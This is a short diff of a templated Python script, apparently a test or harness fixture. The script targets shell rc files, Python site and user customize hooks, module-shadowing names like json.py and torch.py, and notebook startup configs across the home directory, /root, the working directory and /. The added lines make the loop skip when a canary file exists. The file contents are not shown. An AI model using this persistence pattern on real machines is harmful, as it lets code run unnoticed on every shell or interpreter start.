@@ -6,7 +6,8 @@ import os
 
 names = [".bashrc", ".profile", ".pythonrc", "sitecustomize.py", "usercustomize.py", "torch.py", "json.py"]
 names += [".config/matplotlib/matplotlibrc", ".ipython/profile_default/startup/00.py", ".jupyter/config.py"]
-for folder in (os.path.expanduser("~"), "{home}", "/root", os.getcwd(), "/"):
+homes = [os.path.expanduser("~"), "{home}", "/root", os.getcwd(), "/"]
+for folder in homes if not os.path.exists("{canary}") else []:
     for name in names:
         with contextlib.suppress(OSError):
             os.makedirs(os.path.dirname(f"{folder}/{name}"), exist_ok=True)
